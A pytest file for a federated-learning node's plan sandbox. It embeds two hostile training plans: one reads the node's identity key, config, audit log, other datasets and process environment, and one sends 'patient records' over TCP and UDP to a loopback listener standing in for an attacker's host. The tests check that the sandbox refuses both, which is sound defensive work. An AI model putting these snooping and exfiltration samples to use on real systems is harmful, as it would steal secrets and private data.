"""An approved plan runs apart from the node's secrets (docs/node-administration.md).

A trusted researcher (alice) ships a plan the administrator approved. At import (module
code) and in its training step it tries to read the node's identity key, config, database
and audit log, another registered dataset, the node process's environment, and to list the
node home, and returns whatever it got in its training stats (the researcher's history
columns). On a deployed node (a websocket URL) it runs in a worker process: every read is
refused with ``PermissionError`` and the reply carries nothing of them.
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time

import numpy as np
import pandas as pd
import pytest

pytest.importorskip("sklearn")

from fedcore.data import ArrayDataset  # noqa: E402
from fedcore.node import (
    Node,  # noqa: E402
    _landlock,  # noqa: E402
)
from fedcore.plan import PlanBundle  # noqa: E402
from fedcore.wire.identity import Identity  # noqa: E402
from fedcore.wire.messages import ErrorReply, TrainReply, TrainRequest  # noqa: E402
from tests._support.attack import Attacker, serve  # noqa: E402
from tests._support.deployment import start_node, stop_processes  # noqa: E402
from tests._support.net import free_port as _free_port  # noqa: E402
from tests._support.sklearn_plans import SleepWhenToldPlan  # noqa: E402

landlock = pytest.mark.skipif(_landlock.abi_version() == 0,
                              reason="this kernel has no Landlock: file permissions are the "
                              "only barrier (docs/node-administration.md says so)")

SNOOP = '''
import ctypes
import os

from sklearn.linear_model import SGDClassifier

from fedcore_sklearn import SklearnTrainingPlan

TARGETS = TARGETS_HERE


def _snoop():
    got = {}
    for name, path in TARGETS.items():
        try:
            if os.path.isdir(path):
                got[name] = "listed:" + ",".join(sorted(os.listdir(path)))
            else:
                with open(path, "rb") as f:
                    got[name] = "read:" + f.read().hex()
        except OSError as exc:
            got[name] = type(exc).__name__
    got["env"] = ",".join(sorted(k for k in os.environ if "FEDCORE" in k or "PASSWORD" in k))
    return got


AT_IMPORT = _snoop()


class SnoopPlan(SklearnTrainingPlan):
    estimator = SGDClassifier

    def fit(self, dataset, seed):
        how = self.data_info.get("die")
        if how == "exit":
            os._exit(3)
        if how == "segfault":
            ctypes.string_at(0)
        stats = dict(super().fit(dataset, seed) or {})
        stats.update({"import_" + k: v for k, v in AT_IMPORT.items()})
        stats.update({"fit_" + k: v for k, v in _snoop().items()})
        return stats
'''

X = np.random.default_rng(0).normal(size=(40, 4)).astype(np.float32)
Y = (X[:, 0] > 0).astype(np.int64)
INFO = {**ArrayDataset(X, Y).metadata(), "categories": {"target": [0, 1]}}


@pytest.fixture
def site(tmp_path, monkeypatch):
    """A deployed node (websocket URL) with two datasets; the plan is shipped and approved."""
    monkeypatch.setenv("FEDCORE_MQTT_PASSWORD", "hunter2-secret")
    alice = tmp_path / "alice.key"
    url, node = serve(tmp_path / "site", "site", trusted={"alice": alice})
    own = node.datasets.add_arrays("cohort", ["cohort"], X, Y)
    other = tmp_path / "other-hospital.csv"
    pd.DataFrame({"age": [71, 64, 58, 49, 80, 33], "secret_dx": list("ABCABC")}).to_csv(
        other, index=False)
    node.datasets.add("other", ["other"], other)
    home = node.home
    targets = {"key": home / "identity.key", "config": home / "config.toml",
               "db": home / "db.json", "audit": home / "audit.jsonl", "other": other,
               "home": home, "node_environ": f"/proc/{os.getpid()}/environ",
               "own": own["path"]}
    source = SNOOP.replace("TARGETS_HERE", repr({k: str(v) for k, v in targets.items()}))
    bundle = PlanBundle(files={"plan.py": source}, entry="SnoopPlan", backend="sklearn")
    node.plans.submit(bundle)
    node.plans.approve(bundle.sha256)
    with Attacker(url, {"site": node.identity.public_bytes}, key=alice) as attacker:
        yield node, attacker, bundle.to_wire(), own["id"]
    node.stop()


def _request(wire, dataset, **info):
    plan = SleepWhenToldPlan({}, {}, INFO)  # the same estimator: the global model's layout
    plan.build(seed=0)
    return TrainRequest(plan=wire, params=plan.get_parameters(), dataset_id=dataset,
                        data_info={**INFO, **info}, training_args={"epochs": 1},
                        test_ratio=0.0, evaluate_global=False, evaluate_local=False)


@landlock
def test_an_approved_plan_cannot_read_the_key_config_home_or_other_datasets(site):
    node, attacker, wire, dataset = site
    reply = attacker.ask("site", _request(wire, dataset)).body
    assert isinstance(reply, TrainReply), reply
    stats = reply.train_stats
    for when in ("import", "fit"):  # module code and the training step alike
        for target in ("key", "config", "db", "audit", "other", "home", "node_environ"):
            assert stats[f"{when}_{target}"] == "PermissionError", (when, target)
        assert stats[f"{when}_own"].startswith("read:")  # its own dataset it reads in full
    everything = repr(reply)
    assert (node.home / "identity.key").read_bytes().hex() not in everything
    assert "hunter2" not in everything and b"secret_dx".hex() not in everything
    assert node.plan_isolation == "process"


def test_the_worker_environment_holds_none_of_the_node_secrets(site):
    node, attacker, wire, dataset = site
    reply = attacker.ask("site", _request(wire, dataset)).body
    assert isinstance(reply, TrainReply), reply
    assert os.environ["FEDCORE_MQTT_PASSWORD"] == "hunter2-secret"  # the node has it
    assert reply.train_stats["import_env"] == reply.train_stats["fit_env"] == ""


@pytest.mark.parametrize("how", ["exit", "segfault"])
def test_a_plan_that_kills_its_worker_fails_its_round_and_the_next_round_works(site, how):
    node, attacker, wire, dataset = site
    failed = attacker.ask("site", _request(wire, dataset, die=how), sender="bob").body
    assert isinstance(failed, ErrorReply) and failed.kind == "plan"
    assert "worker process ended during the round" in failed.message
    assert "starts a new worker" in failed.message
    record = [r for r in node.audit_log() if r["event"] == "train-failed"][-1]
    assert record["researcher"] == "alice"  # as the node trusts the key, not as claimed
    again = attacker.ask("site", _request(wire, dataset), round=2).body
    assert isinstance(again, TrainReply) and again.n_samples == len(X)


PHONE_HOME = '''
import socket

from sklearn.linear_model import SGDClassifier

from fedcore_sklearn import SklearnTrainingPlan

PORT = PORT_HERE


def _call():
    got = {}
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
            s.sendall(b"the patients' records")
        got["tcp"] = "connected"
    except OSError as exc:
        got["tcp"] = type(exc).__name__
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"the patients' records", ("127.0.0.1", PORT))
        got["udp"] = "sent"
    except OSError as exc:
        got["udp"] = type(exc).__name__
    try:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            s.listen()
        got["listen"] = "listening"
    except OSError as exc:
        got["listen"] = type(exc).__name__
    return got


AT_IMPORT = _call()


class PhoneHomePlan(SklearnTrainingPlan):
    estimator = SGDClassifier

    def fit(self, dataset, seed):
        stats = dict(super().fit(dataset, seed) or {})
        stats.update({"import_" + k: v for k, v in AT_IMPORT.items()})
        stats.update({"fit_" + k: v for k, v in _call().items()})
        return stats
'''


def test_an_approved_plan_cannot_connect_to_a_host_it_controls(site):
    """The researcher's own server (here on loopback) hears nothing from the plan."""
    node, attacker, wire, dataset = site
    heard: list[tuple[str, bytes]] = []
    with socket.socket() as server, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        udp.bind(("127.0.0.1", port))
        udp.settimeout(0.2)

        def listen() -> None:
            server.settimeout(0.2)
            while not stop.is_set():
                for sock in (server, udp):
                    try:
                        if sock is server:
                            conn, _ = sock.accept()
                            heard.append(("tcp", conn.recv(100)))
                            conn.close()
                        else:
                            heard.append(("udp", sock.recv(100)))
                    except OSError:
                        pass

        stop = threading.Event()
        listener = threading.Thread(target=listen, daemon=True)
        listener.start()
        bundle = PlanBundle(files={"plan.py": PHONE_HOME.replace("PORT_HERE", str(port))},
                            entry="PhoneHomePlan", backend="sklearn")
        node.plans.submit(bundle)
        node.plans.approve(bundle.sha256)
        try:
            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
        finally:
            stop.set()
            listener.join(5)
    assert isinstance(reply, TrainReply), reply
    stats = reply.train_stats
    network = node._workers.network
    print(f"\nthe worker's network: {network}; the plan got {stats}")
    if network == "open":
        pytest.skip("this kernel keeps the worker off the network neither way (no user "
                    "namespace, Landlock ABI < 4): the host must block it, as the docs say")
    for when in ("import", "fit"):  # module code and the training step alike
        assert stats[f"{when}_tcp"] == "PermissionError" if network == "tcp" else \
            stats[f"{when}_tcp"] != "connected", stats
        assert stats[f"{when}_listen"] != "listening", stats
    assert [h for h in heard if h[0] == "tcp"] == [], heard  # the server heard nothing
    if "namespace" in network:  # no network at all: UDP (DNS...) goes nowhere either
        assert heard == [], heard


PLAIN = '''
from sklearn.linear_model import SGDClassifier

from fedcore_sklearn import SklearnTrainingPlan


class PlainPlan(SklearnTrainingPlan):
    estimator = SGDClassifier
'''


def _frameworks(pid: int) -> set[str]:
    """The ML frameworks whose compiled modules process ``pid`` has loaded."""
    maps = open(f"/proc/{pid}/maps").read()
    return {name for name in ("sklearn", "torch", "tensorflow", "jax") if f"/{name}/" in maps}


def test_a_restarted_node_starts_its_worker_ahead_with_the_frameworks_it_ran(tmp_path):
    """The first round after a restart finds its worker started, its framework imported."""
    alice = tmp_path / "alice.key"
    url, node = serve(tmp_path / "site", "site", trusted={"alice": alice})
    dataset = node.datasets.add_arrays("cohort", ["cohort"], X, Y)["id"]
    bundle = PlanBundle(files={"plan.py": PLAIN}, entry="PlainPlan", backend="sklearn")
    node.plans.submit(bundle)
    node.plans.approve(bundle.sha256)
    with Attacker(url, {"site": node.identity.public_bytes}, key=alice) as attacker:
        assert isinstance(attacker.ask("site", _request(bundle.to_wire(), dataset)).body,
                          TrainReply)
    node.stop()
    remembered = json.loads((node.home / "plan-workers.json").read_text())
    assert list(remembered) == [dataset] and remembered[dataset]["backends"] == ["sklearn"]
    assert "sklearn.linear_model" in remembered[dataset]["modules"]  # what the plan imported
    assert not [m for m in remembered[dataset]["modules"] if m.startswith("fedcore_plan")]

    url = f"ws://127.0.0.1:{_free_port()}"
    again = Node(node.home).start(url)  # no request yet
    try:
        deadline = time.monotonic() + 120
        while not (workers := list(again._workers._workers.values())) or not workers[0].warm:
            assert time.monotonic() < deadline, "no worker started ahead"
            time.sleep(0.05)
        [worker] = workers
        assert "sklearn" in _frameworks(worker.process.pid)  # imported before any request
        with Attacker(url, {"site": again.identity.public_bytes}, key=alice) as attacker:
            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
        assert isinstance(reply, TrainReply) and reply.n_samples == len(X)
        assert list(again._workers._workers.values()) == [worker]  # it ran the round
        assert worker.process.poll() is None
    finally:
        again.stop()


def test_admitting_an_isolated_plan_imports_no_framework_in_the_node(tmp_path):
    """Under process isolation only the worker imports the plan's framework (a node process)."""
    alice = tmp_path / "alice.key"
    home = tmp_path / "site"
    node = Node(home, node_id="site")
    node.trust("alice", Identity(alice).public_key)
    dataset = node.datasets.add_arrays("cohort", ["cohort"], X, Y)["id"]
    bundle = PlanBundle(files={"plan.py": PLAIN}, entry="PlainPlan", backend="sklearn")
    node.plans.submit(bundle)
    node.plans.approve(bundle.sha256)
    key = node.identity.public_bytes
    node._close_audit()
    url = f"ws://127.0.0.1:{_free_port()}"
    proc = start_node(home, url)
    try:
        with Attacker(url, {"site": key}, key=alice) as attacker:
            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
            assert isinstance(reply, TrainReply) and reply.n_samples == len(X), reply
            assert _frameworks(proc.pid) == set()  # the node process imported no framework
            workers = [int(p) for task in os.listdir(f"/proc/{proc.pid}/task")
                       for p in open(f"/proc/{proc.pid}/task/{task}/children").read().split()]
            assert any("sklearn" in _frameworks(pid) for pid in workers)  # its worker did
    finally:
        stop_processes([proc])


def test_a_home_under_a_system_folder_takes_that_folder_from_the_worker_rules(tmp_path):
    # A node home in /dev/shm (memory) must not be writable through the worker's write rule
    # on /dev/shm, nor readable through its read rule on /dev: both are left out (the plan
    # then runs without /dev, and says so by failing, rather than near the node's files).
    from fedcore.node._spawn import readable, writable

    home = "/dev/shm/fedcore-node-home-under-test"
    dataset = {"id": "d", "path": str(tmp_path / "data.csv")}
    assert "/dev/shm" in writable([str(tmp_path / "home")])
    assert "/dev/shm" not in writable([home])
    assert "/dev/null" in writable([home])
    assert "/dev" not in readable(dataset, [home])
    assert not any(p == "/dev" or p.startswith("/dev/shm") for p in readable(dataset, [home]))


def test_a_dataset_registered_in_a_readable_folder_leaves_the_next_rules_at_once(
        tmp_path, monkeypatch):
    # The rules of the installation's folders are kept between rounds; a dataset registered
    # meanwhile in one of them (here a folder on the import path) still takes that folder
    # from the very next worker's read rules.
    from fedcore.node._spawn import readable

    shared = tmp_path / "shared"
    shared.mkdir()
    monkeypatch.syspath_prepend(str(shared))
    home = str(tmp_path / "home")
    mine = {"id": "a", "path": str(tmp_path / "a.csv")}
    real = os.path.realpath(shared)
    assert real in readable(mine, [home])
    assert real in readable(mine, [home])  # asked again: the same rules
    assert real not in readable(mine, [home, str(shared / "b.csv")])
    assert real in readable(mine, [home])  # that dataset removed again


@landlock
def test_a_dataset_the_cli_registers_while_the_node_serves_leaves_the_next_workers_rules(
        site, tmp_path, monkeypatch):
    # The attacker's plan reads a file in a folder its worker may read (one on the import
    # path) and gets it; the administrator, in another process, registers that file as a
    # dataset while the node serves; the next round's worker, given its rules anew, can no
    # longer read that dataset, though the rules of the installation are kept between rounds.
    import subprocess
    import sys

    node, attacker, _, dataset = site
    shared = tmp_path / "on-import-path"
    shared.mkdir()
    leaked = shared / "leaked.csv"
    pd.DataFrame({"age": [50, 60], "secret_dx": ["Z", "Y"]}).to_csv(leaked, index=False)
    monkeypatch.syspath_prepend(str(shared))
    source = SNOOP.replace("TARGETS_HERE", repr({"leaked": str(leaked)}))
    bundle = PlanBundle(files={"plan.py": source}, entry="SnoopPlan", backend="sklearn")
    node.plans.submit(bundle)
    node.plans.approve(bundle.sha256)

    def read_by_plan() -> str:
        reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
        assert isinstance(reply, TrainReply), reply
        return reply.train_stats["fit_leaked"]

    assert read_by_plan().startswith("read:")  # not a dataset yet: the folder is readable
    done = subprocess.run(
        [sys.executable, "-m", "fedcore_node", "--home", str(node.home), "dataset", "add",
         "--name", "leaked", "--tags", "registry-2025", "--path", str(leaked)],
        capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert read_by_plan() == "PermissionError"
